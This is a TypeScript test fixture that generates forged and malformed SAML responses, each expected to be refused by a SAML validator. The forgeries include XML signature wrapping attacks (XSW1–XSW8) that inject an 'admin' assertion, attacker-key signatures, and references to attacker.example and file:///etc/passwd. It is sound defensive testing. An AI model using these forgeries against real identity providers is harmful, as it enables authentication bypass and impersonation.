import { constants, publicEncrypt } from 'node:crypto';
import type { RefusalCode } from '../../../src/federation/saml/codes.ts';
import type { ResponseOptions } from '../../../src/federation/saml/response.ts';
import { enc, encryptAssertion } from './encrypt.ts';
import { keys } from './keys.ts';
import {
  acsUrl,
  assertionXml,
  at,
  attribute,
  encodePost,
  expectations,
  type MessageOptions,
  responseXml,
} from './messages.ts';
import { buildSignature, canonicalElement, type SignOptions, signElement, uri } from './sign.ts';

// Every known way to forge, twist or overload a SAML response. A mutant says which refusal it must meet; where the message
// form changes which check meets it first, it says so by form.

export type FormName =
  | 'assertion signed'
  | 'response signed'
  | 'both signed'
  | 'encrypted, assertion signed'
  | 'encrypted, response signed';
export type Form = {
  name: FormName;
  options: MessageOptions;
  encrypted: boolean;
  responseSigned: boolean;
  assertionSigned: boolean;
};

export const forms: Form[] = [
  {
    name: 'assertion signed',
    options: { sign: 'assertion' },
    encrypted: false,
    responseSigned: false,
    assertionSigned: true,
  },
  {
    name: 'response signed',
    options: { sign: 'response' },
    encrypted: false,
    responseSigned: true,
    assertionSigned: false,
  },
  { name: 'both signed', options: { sign: 'both' }, encrypted: false, responseSigned: true, assertionSigned: true },
  {
    name: 'encrypted, assertion signed',
    options: { sign: 'assertion', encrypt: {} },
    encrypted: true,
    responseSigned: false,
    assertionSigned: true,
  },
  {
    name: 'encrypted, response signed',
    options: { sign: 'response', encrypt: {} },
    encrypted: true,
    responseSigned: true,
    assertionSigned: false,
  },
];

export type Mutant = {
  id: string;
  name: string;
  code: RefusalCode | ((form: Form) => RefusalCode);
  /** The posted field. */
  make: (form: Form) => string;
  only?: (form: Form) => boolean;
  expected?: Partial<ResponseOptions>;
};

const clear = (form: Form): boolean => !form.encrypted;
const base64 = (text: string): string => Buffer.from(text).toString('base64');

// ---- 1. Content: everything signed properly, one statement wrong or missing

function content(
  id: string,
  name: string,
  code: Mutant['code'],
  options: MessageOptions,
  expected?: Partial<ResponseOptions>,
): Mutant {
  return {
    id,
    name,
    code,
    make: (form) => encodePost(responseXml({ ...form.options, ...options })),
    ...(expected ? { expected } : {}),
  };
}

const schemaOr =
  (code: RefusalCode) =>
  (form: Form): RefusalCode =>
    form.encrypted ? 'encrypted' : code;
const nameId = (
  inner: string,
  format = 'urn:oasis:names:tc:SAML:2.0:nameid-format:persistent',
  more = '',
): MessageOptions => ({
  nameId: `<saml:NameID Format="${format}"${more}>${inner}</saml:NameID>`,
});
const restriction = (...audiences: string[]): string =>
  `<saml:AudienceRestriction>${audiences.map((a) => `<saml:Audience>${a}</saml:Audience>`).join('')}</saml:AudienceRestriction>`;
const conditions = (inner: string): MessageOptions => ({
  conditions: `<saml:Conditions NotBefore="${at(-60)}" NotOnOrAfter="${at(300)}">${inner}</saml:Conditions>`,
});
const sp = 'https://id.lintel.example/saml/0198/metadata';
const withPort = (url: string): string => url.replace('.example/', '.example:443/');
const oneBearer = (more: string): string =>
  `<saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer"><saml:SubjectConfirmationData ${more}/></saml:SubjectConfirmation>`;

const contentMutants: Mutant[] = [
  content('SA-06', 'no Conditions', 'conditions', { conditions: null }),
  content('SA-06', 'Conditions without NotOnOrAfter', 'conditions', { notOnOrAfter: null }),
  content('SA-06', 'no AudienceRestriction', 'audience', { audience: null }),
  content('SA-06', 'another audience', 'audience', { audience: 'https://other.example/' }),
  content('SA-06', 'an audience that only begins like ours', 'audience', { audience: `${sp}/x` }),
  content('SA-06', 'an audience with a space around it', 'audience', { audience: ` ${sp}` }),
  content(
    'SA-06',
    'two restrictions, one of them not for us',
    'audience',
    conditions(restriction(sp) + restriction('https://other.example/')),
  ),
  content(
    'SA-06',
    'an unknown condition',
    schemaOr('message.schema'),
    conditions(
      `${restriction(sp)}<saml:Condition xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:x="urn:x" xsi:type="x:New"/>`,
    ),
  ),
  content(
    'SA-06',
    'a condition without a name of its own, by the type of a known one',
    'conditions',
    conditions(
      `${restriction(sp)}<saml:Condition xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:type="saml:OneTimeUseType"/>`,
    ),
  ),
  content('SA-06', 'our audience in other letter case', 'audience', { audience: sp.toUpperCase() }),
  content('SA-06', 'no Recipient', 'recipient', { recipient: null }),
  content('SA-06', 'a recipient in another namespace', 'recipient', {
    confirmation: oneBearer(`xmlns:x="urn:x" x:Recipient="${acsUrl}" NotOnOrAfter="${at(300)}" InResponseTo="_q1"`),
  }),
  content('SA-06', 'a recipient with a slash at its end', 'recipient', { recipient: `${acsUrl}/` }),
  content('SA-06', 'a recipient with the port that https means', 'recipient', { recipient: withPort(acsUrl) }),
  content('SA-06', 'another recipient', 'recipient', { recipient: 'https://other.example/acs' }),
  content('SA-06', 'a recipient in other letter case', 'recipient', { recipient: acsUrl.toUpperCase() }),
  content('SA-06', 'no Destination', 'destination', { destination: null }),
  content('SA-06', 'another destination', 'destination', { destination: 'https://other.example/acs' }),
  content('SA-06', 'a destination that only begins like ours', 'destination', { destination: `${acsUrl}/../../x` }),
  content('SA-06', 'an empty destination', 'destination', { destination: '' }),
  content('SA-06', 'a destination with a slash at its end', 'destination', { destination: `${acsUrl}/` }),
  content('SA-06', 'a destination with a query', 'destination', { destination: `${acsUrl}?x=y` }),
  content('SA-06', 'a destination with the port that https means', 'destination', { destination: withPort(acsUrl) }),
  content('SA-06', 'a destination whose host is in capitals', 'destination', {
    destination: acsUrl.replace('id.lintel.example', 'ID.Lintel.example'),
  }),
  content('SA-06', 'another issuer of the assertion', 'issuer', { issuer: 'https://other.example/' }),
  content('SA-06', 'another issuer of the response', 'issuer', { responseIssuer: 'https://other.example/' }),
  content('SA-06', 'an issuer that is no entity by its format', 'issuer', {
    tamperUnsigned: (xml) =>
      xml.replace('<saml:Issuer>', '<saml:Issuer Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress">'),
  }),
  content('SA-06', 'an issuer with a space before it', 'issuer', { issuer: ' https://idp.example/entity' }),
  content('SA-06', 'an issuer with trailing text', 'issuer', { issuer: 'https://idp.example/entity.attacker.example' }),
  content('SA-06', 'confirmation without NotOnOrAfter', 'subject.confirmation', { confirmationNotOnOrAfter: null }),
  content('SA-06', 'confirmation with NotBefore', 'subject.confirmation', { confirmationNotBefore: at(-60) }),
  content('SA-06', 'no confirmation', 'subject.confirmation', { confirmation: null }),
  content('SA-06', 'confirmation without data', 'subject.confirmation', {
    confirmation: '<saml:SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer"/>',
  }),
  content('SA-06', 'a holder-of-key confirmation only', 'subject.confirmation', {
    confirmationMethod: 'urn:oasis:names:tc:SAML:2.0:cm:holder-of-key',
  }),
  content('SA-06', 'a sender-vouches confirmation only', 'subject.confirmation', {
    confirmationMethod: 'urn:oasis:names:tc:SAML:2.0:cm:sender-vouches',
  }),
  content('SA-06', 'a confirmation that has expired', 'expired', { confirmationNotOnOrAfter: at(-181) }),
  content('SA-06', 'a confirmation that expires at this very moment', 'expired', {
    confirmationNotOnOrAfter: at(-180),
  }),
  content('SA-06', 'two bearer confirmations that each lack what the other has', 'recipient', {
    confirmation:
      oneBearer(`Recipient="${acsUrl}" InResponseTo="_q1"`) + oneBearer(`NotOnOrAfter="${at(300)}" InResponseTo="_q1"`),
  }),
  content('SA-06', 'conditions that have expired', 'expired', { notOnOrAfter: at(-181) }),
  content('SA-06', 'conditions of the future', 'not_yet_valid', { notBefore: at(182) }),
  content('SA-06', 'a response from the future', 'not_yet_valid', { issueInstant: at(182) }),
  content('SA-06', 'an assertion from the future', 'not_yet_valid', { assertionIssueInstant: at(182) }),
  content('SA-06', 'a response issued long ago', 'issue_instant', { issueInstant: at(-800) }),
  content('SA-06', 'an assertion issued long ago', 'issue_instant', { assertionIssueInstant: at(-800) }),
  content('SA-06', 'an authentication of the future', 'not_yet_valid', { authnInstant: at(182) }),
  content('SA-06', 'a session that is over', 'session_expired', { sessionNotOnOrAfter: at(-181) }),
  content('SA-06', 'a session that ends at this very moment', 'session_expired', { sessionNotOnOrAfter: at(-180) }),
  content('SA-06', 'a time without a zone', 'message.time_format', { notOnOrAfter: '2026-11-20T12:05:00' }),
  content('SA-06', 'a time of another zone', 'message.time_format', { notOnOrAfter: '2026-11-20T14:05:00+02:00' }),
  content('SA-06', 'a time that is none', schemaOr('message.schema'), { notOnOrAfter: 'tomorrow' }),
  content('SA-08', 'no InResponseTo at all', 'unsolicited', { inResponseTo: null }),
  content('SA-08', 'no InResponseTo in the response', 'unsolicited', {
    inResponseTo: null,
    confirmationInResponseTo: '_q1',
  }),
  content('SA-08', 'no InResponseTo in the confirmation', 'in_response_to', { confirmationInResponseTo: null }),
  content('SA-08', 'an answer to another request', 'in_response_to', { inResponseTo: '_q2' }),
  content('SA-08', 'a confirmation of another request', 'in_response_to', { confirmationInResponseTo: '_q2' }),
  content(
    'SA-08',
    'an answer where only unsolicited ones are expected',
    'in_response_to',
    {},
    { request: { kind: 'idp_initiated' } },
  ),
  content(
    'SA-08',
    'an answer by its confirmation alone, where only unsolicited ones are expected',
    'in_response_to',
    { inResponseTo: null, confirmationInResponseTo: '_q1' },
    { request: { kind: 'idp_initiated' } },
  ),
  content('SA-06', 'SAML 1.1 by version of the response', 'message.version', { version: '1.1' }),
  content('SA-06', 'SAML 3 by version of the assertion', 'message.version', { assertionVersion: '3.0' }),
  content('SA-06', 'no AuthnStatement', 'authn_statement', { authnStatement: null }),
  content('SA-06', 'two AuthnStatements', 'authn_statement', {
    authnStatement:
      `<saml:AuthnStatement AuthnInstant="${at(-5)}"><saml:AuthnContext><saml:AuthnContextClassRef>a</saml:AuthnContextClassRef></saml:AuthnContext></saml:AuthnStatement>`.repeat(
        2,
      ),
  }),
  content('SA-06', 'no Subject', 'subject', { subject: null }),
  content('SA-06', 'no NameID', 'subject', { nameId: null }),
  content('SA-06', 'an empty NameID', 'name_id', nameId('')),
  content('SA-06', 'a NameID of white space', 'name_id', nameId(' \n ')),
  content('SA-06', 'a NameID of 1,025 characters', 'name_id', nameId('x'.repeat(1025))),
  content(
    'FD-01',
    'a transient NameID as the key',
    'name_id.transient',
    nameId('_t1', 'urn:oasis:names:tc:SAML:2.0:nameid-format:transient'),
  ),
  content(
    'FD-01',
    'a persistent NameID of another service provider',
    'name_id.qualifier',
    nameId('u-4711', undefined, ' SPNameQualifier="https://other.example/"'),
  ),
  content(
    'FD-01',
    'a persistent NameID of another identity provider',
    'name_id.qualifier',
    nameId('u-4711', undefined, ' NameQualifier="https://other.example/"'),
  ),
  content(
    'FD-01',
    'no attribute where the subject comes from one',
    'subject',
    {},
    { policy: { subjectAttribute: 'employee' } },
  ),
  content(
    'FD-01',
    'two values where the subject comes from an attribute',
    'subject',
    {},
    { policy: { subjectAttribute: 'groups' } },
  ),
  content(
    'FD-01',
    'a value of 1,025 characters where the subject comes from an attribute',
    'subject',
    { attributes: `<saml:AttributeStatement>${attribute('employee', ['x'.repeat(1025)])}</saml:AttributeStatement>` },
    { policy: { subjectAttribute: 'employee' } },
  ),
  content(
    'FD-01',
    'an attribute called __proto__ does not become the subject',
    'subject',
    {},
    { policy: { subjectAttribute: '__proto__' } },
  ),
  content(
    'SA-06',
    'an old authentication where a fresh one was asked for',
    'authn_instant',
    { authnInstant: at(-3600) },
    { request: { kind: 'solicited', id: '_q1', reauthenticatedSince: Date.parse(at(-30)) } },
  ),
  content(
    'SA-06',
    'another authentication context than asked for',
    'authn_context',
    {},
    { request: { kind: 'solicited', id: '_q1', authnContexts: ['urn:oasis:names:tc:SAML:2.0:ac:classes:X509'] } },
  ),
  content('SA-06', 'status Responder', 'status', {
    status: '<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Responder"/>',
  }),
  content('SA-06', 'status Success only below another', 'status', {
    status:
      '<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Requester"><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:StatusCode>',
  }),
  content('SA-06', 'status that only begins like Success', 'status', {
    status: '<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success2"/>',
  }),
];

// ---- 2. Signatures: made wrongly, by the wrong key, or in a way that SAML does not allow

const attacker = (): Partial<SignOptions> => ({
  privateKey: keys.attacker().privateKey,
  certificate: keys.attacker().certificate,
});

function signature(
  id: string,
  name: string,
  code: RefusalCode,
  options: () => Partial<SignOptions>,
  expected?: () => Partial<ResponseOptions>,
): Mutant {
  return {
    id,
    name,
    code,
    make: (form) =>
      encodePost(responseXml({ ...form.options, assertionSignature: options(), responseSignature: options() })),
    get expected() {
      return expected?.();
    },
  } as Mutant;
}

const transforms = (...algorithms: string[]): string =>
  `<ds:Transforms>${algorithms.map((a) => `<ds:Transform Algorithm="${a}"></ds:Transform>`).join('')}</ds:Transforms>`;
const otherReference =
  `<ds:Reference URI="#_other"><ds:Transforms><ds:Transform Algorithm="${uri.enveloped}"></ds:Transform><ds:Transform Algorithm="${uri.exclusive}"></ds:Transform></ds:Transforms>` +
  `<ds:DigestMethod Algorithm="${uri.sha256}"></ds:DigestMethod><ds:DigestValue>47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=</ds:DigestValue></ds:Reference>`;
const digestText = (change: (digest: string) => string) => (text: string) =>
  text.replace(
    /(<ds:DigestValue>)([^<]+)(<)/,
    (_all, open: string, digest: string, close: string) => open + change(digest) + close,
  );

const signatureMutants: Mutant[] = [
  signature('SA-04', 'a key that the message itself brings along', 'signature.invalid', attacker),
  signature('SA-04', 'the pinned certificate in KeyInfo, another key in truth', 'signature.invalid', () => ({
    privateKey: keys.attacker().privateKey,
    certificate: keys.idp().certificate,
  })),
  signature('SA-04', 'a KeyValue in KeyInfo', 'signature.invalid', () => ({
    privateKey: keys.attacker().privateKey,
    keyInfo:
      '<ds:KeyInfo><ds:KeyValue><ds:RSAKeyValue><ds:Modulus>AQAB</ds:Modulus><ds:Exponent>AQAB</ds:Exponent></ds:RSAKeyValue></ds:KeyValue></ds:KeyInfo>',
  })),
  signature('SA-04', 'a KeyName in KeyInfo', 'signature.invalid', () => ({
    privateKey: keys.attacker().privateKey,
    keyInfo: '<ds:KeyInfo><ds:KeyName>idp.example</ds:KeyName></ds:KeyInfo>',
  })),
  signature('SA-04', 'RSA with SHA-1', 'signature.algorithm', () => ({ method: uri.rsaSha1 })),
  signature('SA-04', 'RSA with MD5', 'signature.algorithm', () => ({ method: uri.rsaMd5 })),
  signature('SA-04', 'DSA', 'signature.algorithm', () => ({ method: uri.dsaSha1 })),
  signature(
    'SA-04',
    'ECDSA with SHA-1',
    'signature.algorithm',
    () => ({ method: uri.ecdsaSha1, privateKey: keys.ec().privateKey }),
    () => ({ certificates: [keys.ec().certificate] }),
  ),
  signature('SA-04', 'HMAC keyed with the public certificate', 'signature.algorithm', () => ({
    method: uri.hmacSha256,
    hmacSecret: keys.idp().certificate,
  })),
  signature('SA-04', 'HMAC-SHA1 with an empty key', 'signature.algorithm', () => ({
    method: uri.hmacSha1,
    hmacSecret: '',
  })),
  signature('SA-04', 'an algorithm named constructor', 'signature.algorithm', () => ({ method: 'constructor' })),
  signature('SA-04', 'an algorithm named __proto__', 'signature.algorithm', () => ({ method: '__proto__' })),
  signature('SA-04', 'no algorithm', 'signature.algorithm', () => ({ method: '' })),
  signature('SA-04', 'an RSA method claimed for an EC key', 'signature.invalid', () => ({
    method: uri.ecdsaSha256,
    privateKey: keys.ec().privateKey,
  })),
  signature(
    'SA-04',
    'an RSA method over the signature of a pinned EC key',
    'signature.invalid',
    () => ({ privateKey: keys.ec().privateKey }),
    () => ({ certificates: [keys.ec().certificate] }),
  ),
  signature('SA-04', 'an ECDSA method over the signature of a pinned RSA key', 'signature.invalid', () => ({
    method: uri.ecdsaSha256,
  })),
  signature(
    'SA-04',
    'a pinned key of 1024 bits',
    'signature.certificate',
    () => ({ privateKey: keys.weak().privateKey }),
    () => ({ certificates: [keys.weak().certificate] }),
  ),
  signature(
    'SA-04',
    'no pinned certificate',
    'signature.certificate',
    () => ({}),
    () => ({ certificates: [] }),
  ),
  signature('SA-04', 'a digest by SHA-1', 'signature.algorithm', () => ({ digest: uri.sha1 })),
  signature('SA-04', 'a digest by MD5', 'signature.algorithm', () => ({ digest: uri.md5 })),
  signature('SA-04', 'an HMACOutputLength in the signature method', 'signature.algorithm', () => ({
    methodChildren: '<ds:HMACOutputLength>0</ds:HMACOutputLength>',
  })),
  signature('SA-02', 'two References', 'signature.reference', () => ({ moreReferences: otherReference })),
  signature('SA-10', '200 References', 'signature.reference', () => ({ moreReferences: otherReference.repeat(199) })),
  signature('SA-02', 'a Reference to the whole document', 'signature.reference', () => ({ reference: '' })),
  signature('SA-02', 'a Reference to another element', 'signature.reference', () => ({ reference: '#_zzz' })),
  signature('SA-02', 'a Reference by XPointer', 'signature.reference', () => ({ reference: "#xpointer(id('_a1'))" })),
  signature('SA-02', 'a Reference to the outside', 'signature.reference', () => ({
    reference: 'https://attacker.example/signed.xml',
  })),
  signature('SA-02', 'a Reference to a file', 'signature.reference', () => ({ reference: 'file:///etc/passwd' })),
  signature('SA-02', 'an XPath transform', 'signature.transform', () => ({
    transforms: `<ds:Transforms><ds:Transform Algorithm="${uri.enveloped}"></ds:Transform><ds:Transform Algorithm="${uri.xpath}"><ds:XPath>false()</ds:XPath></ds:Transform></ds:Transforms>`,
  })),
  signature('SA-02', 'an XSLT transform', 'signature.transform', () => ({
    transforms: transforms(uri.xslt, uri.exclusive),
  })),
  signature('SA-02', 'a base64 transform', 'signature.transform', () => ({
    transforms: transforms(uri.enveloped, uri.base64),
  })),
  signature('SA-02', 'inclusive canonicalization', 'signature.transform', () => ({
    transforms: transforms(uri.enveloped, uri.inclusive),
  })),
  signature('SA-02', 'inclusive canonicalization of SignedInfo', 'signature.transform', () => ({
    canonicalization: uri.inclusive,
  })),
  signature('SA-02', 'canonicalization with comments', 'signature.transform', () => ({
    transforms: transforms(uri.enveloped, uri.exclusiveWithComments),
  })),
  signature('SA-02', 'canonicalization of SignedInfo with comments', 'signature.transform', () => ({
    canonicalization: uri.exclusiveWithComments,
  })),
  signature('SA-02', 'only the enveloped transform', 'signature.transform', () => ({
    transforms: transforms(uri.enveloped),
  })),
  signature('SA-02', 'no enveloped transform', 'signature.transform', () => ({
    transforms: transforms(uri.exclusive),
  })),
  signature('SA-02', 'transforms in the wrong order', 'signature.transform', () => ({
    transforms: transforms(uri.exclusive, uri.enveloped),
  })),
  signature('SA-02', 'a parameter of the enveloped transform', 'signature.transform', () => ({
    transforms: `<ds:Transforms><ds:Transform Algorithm="${uri.enveloped}"><ds:XPath>1</ds:XPath></ds:Transform><ds:Transform Algorithm="${uri.exclusive}"></ds:Transform></ds:Transforms>`,
  })),
  signature('SA-02', 'a foreign parameter of the canonicalization', 'signature.transform', () => ({
    transforms: `<ds:Transforms><ds:Transform Algorithm="${uri.enveloped}"></ds:Transform><ds:Transform Algorithm="${uri.exclusive}"><ds:XPath>1</ds:XPath></ds:Transform></ds:Transforms>`,
  })),
  signature('SA-02', '33 inclusive prefixes', 'signature.transform', () => ({
    inclusivePrefixes: Array.from({ length: 33 }, (_n, i) => `p${i}`),
  })),
  signature('SA-02', 'a parameter of the digest', 'signature.algorithm', () => ({
    tamperSignedInfo: (info) => info.replace('></ds:DigestMethod>', '><x:x xmlns:x="urn:x"></x:x></ds:DigestMethod>'),
  })),
  signature('SA-02', 'three transforms', 'signature.transform', () => ({
    transforms: transforms(uri.enveloped, uri.exclusive, uri.exclusive),
  })),
  signature('SA-02', 'fifty transforms', 'signature.transform', () => ({
    transforms: transforms(uri.enveloped, ...Array(49).fill(uri.exclusive)),
  })),
  signature('SA-02', 'a digest that is signed and wrong', 'signature.digest', () => ({
    tamperSignedInfo: digestText(() => '47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='),
  })),
  signature('SA-02', 'a digest that is signed and too short', 'signature.structure', () => ({
    tamperSignedInfo: digestText((d) => base64(Buffer.from(d, 'base64').subarray(0, 8).toString('latin1'))),
  })),
  signature('SA-02', 'an empty digest that is signed', 'signature.structure', () => ({
    tamperSignedInfo: digestText(() => ''),
  })),
  signature('SA-02', 'a digest changed after signing', 'signature.invalid', () => ({
    tamper: digestText(() => '47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU='),
  })),
  signature('SA-02', 'an Object in the signature', 'signature.structure', () => ({
    object: '<ds:Object>x</ds:Object>',
  })),
  signature('SA-02', 'an Object in the place of KeyInfo', 'signature.structure', () => ({
    keyInfo: null,
    object: '<ds:Object>x</ds:Object>',
  })),
  signature('SA-02', 'an empty SignatureValue', 'signature.structure', () => ({
    tamper: (xml) => xml.replace(/(<ds:SignatureValue>)[^<]+/, '$1'),
  })),
  signature('SA-02', 'a signature of zeros', 'signature.invalid', () => ({
    tamper: (xml) => xml.replace(/(<ds:SignatureValue>)[^<]+/, `$1${Buffer.alloc(256).toString('base64')}`),
  })),
];
// ---- 3. Wrapping and structure: changes of the finished message

function tampered(
  id: string,
  name: string,
  code: Mutant['code'],
  tamper: (xml: string, form: Form) => string,
  only?: (form: Form) => boolean,
): Mutant {
  return {
    id,
    name,
    code,
    make: (form) => encodePost(responseXml({ ...form.options, tamper: (xml) => tamper(xml, form) })),
    ...(only ? { only } : {}),
  };
}

const assertionOf = (xml: string): string => /<saml:Assertion [\s\S]*<\/saml:Assertion>/.exec(xml)?.[0] ?? '';
const signatureOf = (xml: string): string => /<ds:Signature [\s\S]*?<\/ds:Signature>/.exec(xml)?.[0] ?? '';
const payload = (xml: string): string =>
  assertionOf(xml) || (/<saml:EncryptedAssertion[\s\S]*<\/saml:EncryptedAssertion>/.exec(xml)?.[0] ?? '');
const evil = (id = '_evil'): string => assertionXml({ nameId: '<saml:NameID>admin</saml:NameID>' }, id);
const withoutSignature = (xml: string): string => xml.replace(signatureOf(xml), '');
const hiddenInfo = (xml: string): string =>
  `<x:x xmlns:x="urn:x">${/<ds:SignedInfo[\s\S]*?<\/ds:SignedInfo>/.exec(xml)?.[0]}</x:x>`;
const insertInto = (xml: string, closing: string, what: string): string => xml.replace(closing, what + closing);

const wrappingMutants: Mutant[] = [
  tampered(
    'SA-01',
    'XSW1: a forged response with the signed one inside its signature',
    'message.schema',
    (xml) => {
      const forged = xml
        .replace('ID="_r1"', 'ID="_evil"')
        .replace('ID="_a1"', 'ID="_evil2"')
        .replace('u-4711', 'admin');
      return forged.replace('</ds:Signature>', `${withoutSignature(xml)}</ds:Signature>`);
    },
    (form) => form.responseSigned,
  ),
  tampered(
    'SA-01',
    'XSW2: a forged response, the signed one detached before its signature',
    'message.schema',
    (xml) => {
      const forged = xml
        .replace('ID="_r1"', 'ID="_evil"')
        .replace('ID="_a1"', 'ID="_evil2"')
        .replace('u-4711', 'admin');
      return forged.replace('<ds:Signature ', `${withoutSignature(xml)}<ds:Signature `);
    },
    (form) => form.responseSigned,
  ),
  tampered('SA-01', 'XSW3: a forged assertion before the signed one', 'message.structure', (xml) =>
    xml.replace(payload(xml), evil() + payload(xml)),
  ),
  tampered('SA-01', 'XSW3b: a forged assertion after the signed one', 'message.structure', (xml) =>
    xml.replace(payload(xml), payload(xml) + evil()),
  ),
  tampered(
    'SA-01',
    'XSW4: a forged assertion around the signed one',
    'message.schema',
    (xml) => xml.replace(assertionOf(xml), insertInto(evil(), '</saml:Assertion>', assertionOf(xml))),
    clear,
  ),
  tampered(
    'SA-01',
    'XSW5: the signature moved into a forged assertion, the signed one behind it',
    'message.structure',
    (xml) => {
      const assertion = assertionOf(xml);
      return xml.replace(
        assertion,
        evil().replace('</saml:Issuer>', `</saml:Issuer>${signatureOf(assertion)}`) + withoutSignature(assertion),
      );
    },
    (form) => clear(form) && form.assertionSigned,
  ),
  tampered(
    'SA-01',
    'XSW6: the signed assertion inside its signature, in a forged one',
    'message.schema',
    (xml) => {
      const assertion = assertionOf(xml);
      const moved = insertInto(signatureOf(assertion), '</ds:Signature>', withoutSignature(assertion));
      return xml.replace(assertion, evil().replace('</saml:Issuer>', `</saml:Issuer>${moved}`));
    },
    (form) => clear(form) && form.assertionSigned,
  ),
  tampered(
    'SA-01',
    'XSW7: the signed assertion in Extensions, a forged one in its place',
    'signature.place',
    (xml) => {
      const assertion = assertionOf(xml);
      return xml
        .replace(assertion, evil())
        .replace('<samlp:Status>', `<samlp:Extensions>${assertion}</samlp:Extensions><samlp:Status>`);
    },
    (form) => clear(form) && form.assertionSigned,
  ),
  tampered('SA-01', 'XSW7b: an unsigned copy in Extensions', 'message.structure', (xml) => {
    const extensions = `<samlp:Extensions>${evil()}</samlp:Extensions>`;
    return xml.replace('<samlp:Status>', `${extensions}<samlp:Status>`);
  }),
  tampered(
    'SA-01',
    'XSW8: the signed assertion in an Object of the signature of a forged one',
    'message.structure',
    (xml) => {
      const assertion = assertionOf(xml);
      const moved = insertInto(
        signatureOf(assertion),
        '</ds:Signature>',
        `<ds:Object>${withoutSignature(assertion)}</ds:Object>`,
      );
      return xml.replace(assertion, evil().replace('</saml:Issuer>', `</saml:Issuer>${moved}`));
    },
    (form) => clear(form) && form.assertionSigned,
  ),
  tampered(
    'SA-01',
    'a forged assertion in Advice of the signed one',
    'message.structure',
    (xml) => xml.replace('<saml:AuthnStatement', `<saml:Advice>${evil()}</saml:Advice><saml:AuthnStatement`),
    clear,
  ),
  tampered('SA-01', 'an assertion of the same name in another namespace', 'message.structure', (xml) =>
    xml.replace('<samlp:Status>', '<samlp:Extensions><x:Assertion xmlns:x="urn:x"/></samlp:Extensions><samlp:Status>'),
  ),
  tampered('SA-01', 'a Response within Extensions', 'message.structure', (xml) =>
    xml.replace('<samlp:Status>', '<samlp:Extensions><x:Response xmlns:x="urn:x"/></samlp:Extensions><samlp:Status>'),
  ),
  tampered('SA-01', 'an EncryptedAssertion injected beside the assertion', 'message.structure', (xml) =>
    xml.replace(
      '</samlp:Response>',
      `${encryptAssertion(evil(), { certificate: keys.sp().certificate })}</samlp:Response>`,
    ),
  ),
  tampered(
    'SA-01',
    'an EncryptedAssertion injected instead of the assertion',
    (form) => (form.responseSigned ? 'signature.digest' : 'signature.missing'),
    (xml) => xml.replace(payload(xml), encryptAssertion(evil(), { certificate: keys.sp().certificate })),
  ),
  tampered('SA-01', 'no assertion', 'message.structure', (xml) => xml.replace(payload(xml), '')),
  tampered(
    'SA-01',
    'the signatures cut out',
    (form) => (form.name === 'encrypted, assertion signed' ? 'signature.digest' : 'signature.missing'),
    (xml) => withoutSignature(withoutSignature(xml)),
    (form) => form.name !== 'encrypted, assertion signed',
  ),
  tampered(
    'SA-01',
    'a signed value changed',
    (form) => (form.encrypted ? 'encrypted' : 'signature.digest'),
    (xml, form) =>
      form.encrypted
        ? xml.replace(
            /(<\/xenc:EncryptedKey>[\s\S]*<xenc:CipherValue>.{200})(.)/,
            (_a, head: string, c: string) => head + (c === 'A' ? 'B' : 'A'),
          )
        : xml.replace('u-4711', 'admin'),
    (form) => !(form.encrypted && form.responseSigned),
  ),
  tampered(
    'SA-01',
    'an attribute added to the signed element',
    'signature.digest',
    (xml, form) =>
      form.responseSigned
        ? xml.replace('<samlp:Response ', '<samlp:Response Consent="urn:x" ')
        : xml.replace('<saml:AuthnStatement ', '<saml:AuthnStatement SessionNotOnOrAfter="2027-01-01T00:00:00Z" '),
    (form) => form.responseSigned || clear(form),
  ),
  tampered(
    'SA-01',
    'the signature after the subject',
    'message.schema',
    (xml) => {
      const signature = signatureOf(assertionOf(xml));
      return xml.replace(signature, '').replace('</saml:Subject>', `</saml:Subject>${signature}`);
    },
    (form) => clear(form) && form.assertionSigned,
  ),
  tampered(
    'SA-01',
    'the assertion’s signature moved to the response',
    'signature.reference',
    (xml) => {
      const signature = signatureOf(assertionOf(xml));
      return xml.replace(signature, '').replace('</saml:Issuer>', `</saml:Issuer>${signature}`);
    },
    (form) => form.name === 'assertion signed',
  ),
  tampered(
    'SA-01',
    'the response’s signature moved to the assertion',
    'signature.reference',
    (xml) => {
      const signature = signatureOf(xml);
      const without = xml.replace(signature, '');
      return without.replace(
        assertionOf(without),
        assertionOf(without).replace('</saml:Issuer>', `</saml:Issuer>${signature}`),
      );
    },
    (form) => form.name === 'response signed',
  ),
  tampered('SA-01', 'a signature in Extensions', 'signature.place', (xml) => {
    const stray = buildSignature('47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=', '#_r1', {
      privateKey: keys.idp().privateKey,
    });
    return xml.replace('<samlp:Status>', `<samlp:Extensions>${stray}</samlp:Extensions><samlp:Status>`);
  }),
  tampered(
    'SA-02',
    'two SignedInfo, the forged one first',
    'message.schema',
    (xml) => xml.replace('<ds:SignedInfo', `${/<ds:SignedInfo[\s\S]*?<\/ds:SignedInfo>/.exec(xml)?.[0]}<ds:SignedInfo`),
    (form) => form.responseSigned || clear(form),
  ),
  tampered(
    'SA-02',
    'a second SignedInfo inside an Object',
    'signature.structure',
    (xml) =>
      xml.replace(
        '</ds:Signature>',
        `<ds:Object>${/<ds:SignedInfo[\s\S]*?<\/ds:SignedInfo>/.exec(xml)?.[0]}</ds:Object></ds:Signature>`,
      ),
    (form) => form.responseSigned || clear(form),
  ),
  tampered(
    'SA-02',
    'a second SignedInfo inside KeyInfo',
    'signature.structure',
    (xml) => xml.replace('<ds:KeyInfo>', `<ds:KeyInfo>${hiddenInfo(xml)}`),
    (form) => form.responseSigned || clear(form),
  ),
  tampered(
    'SA-02',
    'two signatures one after the other',
    'message.schema',
    (xml) => xml.replace('<ds:Signature ', `${signatureOf(xml)}<ds:Signature `),
    (form) => form.responseSigned || clear(form),
  ),
